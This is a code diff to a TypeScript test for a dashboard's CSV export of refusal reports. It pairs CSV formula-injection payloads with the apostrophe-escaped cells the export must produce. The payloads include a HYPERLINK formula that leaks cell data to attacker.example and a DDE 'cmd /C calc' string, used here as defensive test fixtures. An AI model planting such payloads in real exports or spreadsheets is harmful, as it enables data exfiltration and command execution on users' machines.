@@ -5,30 +5,30 @@ import { parseFilter, resolveFilter } from "@/lib/dashboard/filters";
 import { marchFixture } from "@/lib/dashboard/fixture.test-helpers";
 import { reportColumns } from "./columns";
 import { reportsCsvStream } from "./csv";
-import { neutraliseCell } from "./neutralise";
 import { translatorFor } from "./test-translator";
 
-const HOSTILE = [
-  '=HYPERLINK("http://attacker.example/?leak="&A1,"Szczegóły")',
-  "+48 600 100 200",
-  "-1+1",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  "\t=1+1",
-  "\r=1+1",
+// Each payload with the cell the export must write for it, written out (not
+// computed with the export's own neutraliseCell): an apostrophe in front.
+const HOSTILE: [payload: string, cell: string][] = [
+  ['=HYPERLINK("http://attacker.example/?leak="&A1,"Szczegóły")', `'=HYPERLINK("http://attacker.example/?leak="&A1,"Szczegóły")`],
+  ["+48 600 100 200", "'+48 600 100 200"],
+  ["-1+1", "'-1+1"],
+  ["@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+  ["\t=1+1", "'\t=1+1"],
+  ["\r=1+1", "'\r=1+1"],
 ];
+const NARRATIVE = "Zażółć gęślą jaźń – klient krzyczał; „cytat”, przecinek, i\nnowa linia";
+const HOSTILE_REPORTS = ["notJustified", "appealed", "submitted", "inReview", "withdrawn", "justified2"] as const;
 
 let f: Awaited<ReturnType<typeof marchFixture>>;
 beforeAll(async () => {
   f = await marchFixture();
   await db.refusalReport.update({
     where: { id: f.reports.justified1.id },
-    data: { narrative: "Zażółć gęślą jaźń – klient krzyczał; „cytat”, przecinek, i\nnowa linia", customerDescription: "Mężczyzna ok. 40 lat" },
+    data: { narrative: NARRATIVE, customerDescription: "Mężczyzna ok. 40 lat" },
   });
-  for (const [index, payload] of HOSTILE.entries()) {
-    await db.refusalReport.update({
-      where: { id: [f.reports.notJustified, f.reports.appealed, f.reports.submitted, f.reports.inReview, f.reports.withdrawn, f.reports.justified2][index].id },
-      data: { narrative: payload, customerRequest: payload },
-    });
+  for (const [index, [payload]] of HOSTILE.entries()) {
+    await db.refusalReport.update({ where: { id: f.reports[HOSTILE_REPORTS[index]].id }, data: { narrative: payload, customerRequest: payload } });
   }
 });
 
@@ -61,17 +61,22 @@ describe("CSV export", () => {
     });
     expect(rows.map((row) => row[0])).toEqual(stored.map((report) => report.number));
     const col = (name: string) => header.indexOf(name);
+    // The narrative and request cells of each report: plain text as stored, a payload with its apostrophe.
+    const cells = new Map<string, [narrative: string, request: string]>([
+      [f.reports.justified1.id, [NARRATIVE, "Zwrot towaru bez paragonu."]], // the request as test/factories.ts files it
+      ...HOSTILE_REPORTS.map((key, index): [string, [string, string]] => [f.reports[key].id, [HOSTILE[index][1], HOSTILE[index][1]]]),
+    ]);
+    expect(stored.map((report) => cells.has(report.id))).toEqual(Array(7).fill(true));
     for (const [index, report] of stored.entries()) {
       const row = rows[index];
       expect(row[col("Placówka")]).toBe(report.location.name);
       expect(row[col("Pracownik")]).toBe("Żaneta Głowacka");
-      expect(row[col("Przebieg zdarzenia")]).toBe(neutraliseCell(report.narrative));
-      expect(row[col("Żądanie klienta")]).toBe(neutraliseCell(report.customerRequest));
+      expect([row[col("Przebieg zdarzenia")], row[col("Żądanie klienta")]]).toEqual(cells.get(report.id));
       expect(new Date(row[col("Data zgłoszenia")]).getTime()).toBe(report.createdAt.getTime());
       expect(new Date(row[col("Data zdarzenia")]).getTime()).toBe(report.occurredAt.getTime());
     }
     const first = rows.find((row) => row[0] === f.reports.justified1.number)!;
-    expect(first[col("Przebieg zdarzenia")]).toBe("Zażółć gęślą jaźń – klient krzyczał; „cytat”, przecinek, i\nnowa linia");
+    expect(first[col("Przebieg zdarzenia")]).toBe(NARRATIVE);
     expect(first[col("Data zgłoszenia")]).toBe("2026-03-02T12:00:00+01:00");
     expect(first[col("Rozstrzygnięcie")]).toBe("Uzasadniona");
     expect(first[col("Godziny do decyzji")]).toBe("2");
@@ -86,8 +91,8 @@ describe("CSV export", () => {
   it("makes formula payloads inert: every hostile cell starts with an apostrophe and keeps its text", async () => {
     const { header, rows } = await exportCsv();
     const narratives = rows.map((row) => row[header.indexOf("Przebieg zdarzenia")]);
-    for (const payload of HOSTILE) {
-      expect(narratives).toContain(`'${payload}`);
+    for (const [, cell] of HOSTILE) {
+      expect(narratives).toContain(cell);
     }
     for (const row of rows) {
       for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
